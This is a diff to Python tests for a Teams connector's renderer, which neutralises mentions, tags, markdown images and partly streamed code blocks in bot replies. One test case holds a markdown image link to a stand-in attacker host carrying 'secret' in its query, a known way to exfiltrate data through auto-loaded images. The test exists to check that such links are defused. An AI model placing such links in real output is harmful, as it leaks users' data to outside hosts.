@@ -13,6 +13,8 @@ from goodbot_connectors.teams.presses import About, read
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.connectors import parsing
+
 PRIVATE = ChannelRef(connector="teams", account="a", id="a:1", kind=ChannelKind.PRIVATE)
 SHARED = ChannelRef(connector="teams", account="a", id="19:1@thread.v2", kind=ChannelKind.SHARED)
 TURN = "5f1e0c7a9b3d2468"
@@ -84,7 +86,9 @@ def test_an_empty_answer_says_so() -> None:
 @pytest.mark.parametrize(
     ("written", "shown"),
     [
-        ("ask @everyone", "ask @\u2060everyone"),
+        ("ask @everyone; npm i @types/node; c<d", "ask @everyone; npm i @types/node; c<d"),
+        ("`Vec<String>`, `@Override`, `items[0](x)`", "`Vec<String>`, `@Override`, `items[0](x)`"),
+        ("a ` b `<c>`", "a ` b `<\u2060c>`"),
         ("mail a@example.org", "mail a@example.org"),
         ("![x](https://evil.example/?q=secret)", "!\u2060[x](https://evil.example/?q=secret)"),
         ("<at>Bob</at>", "<\u2060at>Bob<\u2060/at>"),
@@ -108,9 +112,9 @@ def test_code_blocks_stay_as_they_are(code: str) -> None:
 
 @given(TEXTS)
 def test_nothing_in_running_text_acts(text: str) -> None:
-    shown = render.inert(text.replace("`", ""))
-    assert "![" not in shown
-    assert not any(f"<{sign}" in shown for sign in "abcxyzABC/!?")
+    """Teams documents `textFormat: markdown`, with tags; people are named by entities alone."""
+    shown = render.inert(text)
+    assert [act for act in parsing.acting(shown) if act[0] != "link"] == []
     assert "\u202e" not in shown
 
 
@@ -130,13 +134,22 @@ def test_what_is_shown_of_an_answer_only_grows(pieces: list[str]) -> None:
     for piece in pieces:
         text += piece
         shown = render.beginning(text)
-        if "\u202e" not in text and "`" not in text:
+        if "\u202e" not in text:
             assert shown.startswith(before)
             before = shown
 
 
 def test_a_code_block_that_is_being_written_is_shown_once_its_fence_is_whole() -> None:
     text, before = "See:\n```python\nprint(1)\n```\nDone.\n", ""
+    for n in range(1, len(text) + 1):
+        shown = render.beginning(text[:n])
+        assert shown.startswith(before), (before, shown)
+        before = shown
+    assert before == render.inert(text)
+
+
+def test_what_may_yet_become_code_or_a_tag_waits() -> None:
+    before, text = "", "Say `a<b>` and c<d, <i>e</i>,\n- ```\n  f<g>\n  ```\n`|` x\n--|--\n\nEnd."
     for n in range(1, len(text) + 1):
         shown = render.beginning(text[:n])
         assert shown.startswith(before), (before, shown)
